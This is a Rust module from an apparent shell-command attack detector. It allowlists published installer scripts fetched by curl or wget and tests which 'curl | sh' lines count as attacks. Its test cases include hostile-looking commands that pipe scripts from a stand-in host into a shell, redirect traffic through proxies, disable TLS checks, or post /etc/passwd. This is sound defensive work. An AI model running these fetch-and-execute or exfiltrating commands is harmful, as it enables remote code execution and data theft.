//! Scripts that makers of programs publish so that they are fetched and run: the line stands on their own pages.
//!
//! Only the line as it stands there: whatever else a command is handed may lead it elsewhere, so all of it has to be known.

use super::script::{Call, Command};

/// Where they lie, as the makers' documentation has it: a host and a whole path. `*` is a version (`v1.2.3`, `1.2.3`), `@` a
/// version or one of the branches from which a maker publishes; a commit or a pull request is anybody's.
#[rustfmt::skip]
const PLACES: &[&str] = &[
    "apt.llvm.org/llvm.sh", "astral.sh/ruff/*/install.sh", "astral.sh/ruff/install.sh", "astral.sh/uv/*/install.sh",
    "astral.sh/uv/install.sh", "bun.com/install", "bun.sh/install", "deb.nodesource.com/setup_%.x",
    "deb.nodesource.com/setup_current.x", "deb.nodesource.com/setup_lts.x", "deno.land/install.sh", "fnm.vercel.app/install",
    "get.docker.com", "get.k3s.io", "get.pnpm.io/install.sh", "get.rke2.io", "get.rvm.io", "get.sdkman.io",
    "install.determinate.systems/nix", "install.duckdb.org", "install.python-poetry.org", "just.systems/install.sh", "mise.run",
    "nixos.org/nix/install", "ollama.com/install.sh", "raw.githubusercontent.com/Homebrew/install/@/install.sh",
    "raw.githubusercontent.com/helm/helm/@/scripts/get-helm-%", "raw.githubusercontent.com/nvm-sh/nvm/@/install.sh",
    "raw.githubusercontent.com/ohmyzsh/ohmyzsh/@/tools/install.sh",
    "raw.githubusercontent.com/pyenv/pyenv-installer/@/bin/pyenv-installer", "rpm.nodesource.com/setup_%.x",
    "rpm.nodesource.com/setup_current.x", "rpm.nodesource.com/setup_lts.x", "sh.rustup.rs", "starship.rs/install.sh",
    "tailscale.com/install.sh", "www.npmjs.com/install.sh",
];

/// Whether all that a command fetches is such a script, over a connection that nobody can step into: one address, and no option
/// but those that say how much is shown, that redirects are followed, how safe the connection is, and where the script is put.
pub(super) fn fetches_one(command: &Command<'_>, call: &Call<'_>) -> bool {
    let Some(tool) = Tool::of(&call.name) else { return false };
    // `https_proxy=… curl`, `env CURL_HOME=… curl`
    let started_by = &command.words[..command.words.len() - call.words.len()];
    if !command.assignments.is_empty() || started_by.iter().any(|word| word.text.contains('=')) {
        return false;
    }
    let mut words = call.args().iter().map(|word| &*word.text);
    let mut addresses = 0;
    while let Some(word) = words.next() {
        let is_known = match tool.kind(word) {
            Some(Kind::Flag) => true,
            Some(Kind::Address) => {
                addresses += 1;
                is_place(word)
            }
            Some(Kind::ProtocolNext) => words.next() == Some("=https"),
            Some(Kind::FileNext) => words.next().is_some_and(is_plain_file),
            None => false,
        };
        if !is_known {
            return false;
        }
    }
    addresses == 1
}

#[derive(Clone, Copy, PartialEq, Eq)]
enum Tool {
    Curl,
    Wget,
}

/// What a word is to the tool.
enum Kind {
    Address,
    Flag,
    /// The protocols that may be used come next.
    ProtocolNext,
    /// The file that the script is put into comes next.
    FileNext,
}

impl Tool {
    fn of(name: &str) -> Option<Self> {
        match name {
            "curl" => Some(Self::Curl),
            "wget" => Some(Self::Wget),
            _ => None,
        }
    }

    /// What a word is; nothing where it is none of those that are known to change nothing.
    fn kind(self, word: &str) -> Option<Kind> {
        const CURL: &[&str] = &[
            "--fail",
            "--silent",
            "--show-error",
            "--location",
            "--remote-name",
            "--tlsv1.2",
            "--tlsv1.3",
            "--proto==https",
            "-#",
            "--progress-bar",
        ];
        const WGET: &[&str] = &["--quiet", "--no-verbose", "--https-only", "--show-progress", "-nv"];
        if !word.starts_with('-') {
            return Some(Kind::Address);
        }
        let (flags, long, letters, file) = match self {
            Self::Curl => (CURL, "--output", "fsSLO", 'o'),
            Self::Wget => (WGET, "--output-document", "q", 'O'),
        };
        if flags.contains(&word) {
            return Some(Kind::Flag);
        }
        if word == "--proto" && self == Self::Curl {
            return Some(Kind::ProtocolNext);
        }
        if let Some(value) = word.strip_prefix(long) {
            return match value.strip_prefix('=') {
                Some(file) => is_plain_file(file).then_some(Kind::Flag),
                None => value.is_empty().then_some(Kind::FileNext),
            };
        }
        let bundle = word[1..].trim_start_matches(|letter| letters.contains(letter));
        match bundle.strip_prefix(file) {
            None => (bundle.is_empty() && word.len() > 1).then_some(Kind::Flag),
            Some("") => Some(Kind::FileNext),
            Some(file) => is_plain_file(file).then_some(Kind::Flag),
        }
    }
}

/// `-`, or a file's name as people write it.
fn is_plain_file(file: &str) -> bool {
    let is_sign = |byte: u8| byte.is_ascii_alphanumeric() || matches!(byte, b'.' | b'_' | b'-' | b'/');
    file == "-" || !file.is_empty() && !file.starts_with('-') && file.bytes().all(is_sign)
}

fn is_place(address: &str) -> bool {
    let Some(rest) = address.strip_prefix("https://") else { return false };
    // A host alone has nothing behind it, or a slash.
    let rest = rest.strip_suffix('/').filter(|host| !host.contains('/')).unwrap_or(rest);
    PLACES.iter().any(|place| is_same(rest, place))
}

/// Whether an address is a place, part by part.
fn is_same(address: &str, place: &str) -> bool {
    let (mut given, mut known) = (address.split('/'), place.split('/'));
    loop {
        let is_fit = match (given.next(), known.next()) {
            (None, None) => return true,
            (Some(part), Some("*")) => is_version(part),
            (Some(part), Some("@")) => {
                matches!(part, "HEAD" | "main" | "master") || part.starts_with('v') && is_version(part)
            }
            (Some(part), Some(known)) => match known.split_once('%') {
                Some((before, behind)) => part
                    .strip_prefix(before)
                    .and_then(|part| part.strip_suffix(behind))
                    .is_some_and(|number| matches!(number.len(), 1..=2) && number.bytes().all(|byte| byte.is_ascii_digit())),
                None => part == known,
            },
            _ => false,
        };
        if !is_fit {
            return false;
        }
    }
}

/// `v1.2.3` or `1.2.3`.
fn is_version(part: &str) -> bool {
    let numbers = part.strip_prefix('v').unwrap_or(part);
    let is_number = |number: &str| matches!(number.len(), 1..=4) && number.bytes().all(|byte| byte.is_ascii_digit());
    numbers.split('.').count() == 3 && numbers.split('.').all(is_number)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::threats::code::shell::command::attack;

    #[test]
    fn published_installers_are_left_alone() {
        for line in [
            "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh",
            "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- -y",
            "wget -qO- https://astral.sh/uv/install.sh | sh",
            "wget -q -O - https://astral.sh/uv/0.9.1/install.sh | sh",
            "bash -c \"$(curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh)\"",
            "curl -o- https://raw.githubusercontent.com/nvm-sh/nvm/v0.40.3/install.sh | bash",
            "curl --fail --silent --show-error --location https://get.docker.com/ | sudo sh",
            "curl -fsSL https://get.docker.com -o get-docker.sh && sudo sh get-docker.sh",
            "curl -fsSL https://deb.nodesource.com/setup_22.x | sudo -E bash -",
            "curl -fsSL https://deno.land/install.sh | sh",
        ] {
            assert_eq!(attack(line), None, "{line}");
        }
    }

    #[test]
    fn what_leads_elsewhere_is_an_attack() {
        for line in [
            "curl -sSf http://sh.rustup.rs | sh",
            "curl -sSf https://sh.rustup.rs.files.example | sh",
            "curl -sSf https://sh.rustup.rs@files.example/x | sh",
            "curl -sSfk https://sh.rustup.rs https://files.example/x | sh",
            "curl --proxy http://files.example -sSf https://sh.rustup.rs | sh",
            "curl -sSf https://raw.githubusercontent.com/somebody/install/HEAD/install.sh | sh",
            "curl -sSf https://deno.land/../x files.example/y | sh",
            "curl -sSf https://files.example/install.sh | sh",
            "curl -sSf https://sh.rustup.rs files.example | sh",
            "curl -sSf https://sh.rustup.rs localhost | sh",
            "curl -sSfk https://sh.rustup.rs | sh",
            "curl -sSf -xhttp://files.example https://sh.rustup.rs | sh",
            "curl -sSf --socks5 files.example https://sh.rustup.rs | sh",
            "curl -sSf --doh-url=https://files.example/q https://sh.rustup.rs | sh",
            "curl -sSf -H Host:files.example https://sh.rustup.rs | sh",
            "curl -sSf --data-binary /etc/passwd https://sh.rustup.rs | sh",
            "curl -sSf --proto =http https://sh.rustup.rs | sh",
            "curl -sSf https://sh.rustup.rs/x | sh",
            "curl -fsSL https://deno.land/x/somebody/install.sh | sh",
            "curl -sSf https://raw.githubusercontent.com/nvm-sh/nvm/0123456789abcdef0123456789abcdef01234567/install.sh | sh",
            "curl -sSf https://raw.githubusercontent.com/nvm-sh/nvm/refs/pull/9/head/install.sh | sh",
            "curl -sSf https://raw.githubusercontent.com/nvm-sh/nvm/somebranch/install.sh | sh",
            "https_proxy=http://files.example curl -sSf https://sh.rustup.rs | sh",
            "env CURL_HOME=/tmp/x curl -sSf https://sh.rustup.rs | sh",
            "wget -qO- --header=Host:files.example https://astral.sh/uv/install.sh | sh",
            "curl -sSf https://deb.nodesource.com/setup_22.x/../x | sh",
        ] {
            assert!(attack(line).is_some(), "{line}");
        }
    }

    #[test]
    fn versions_are_numbers() {
        assert!(is_version("v0.40.3") && is_version("1.2.10"));
        for other in ["v1", "1.2", "1.2.3.4", "v1.2.x", "", "v..", "1.2.12345"] {
            assert!(!is_version(other), "{other}");
        }
    }
}
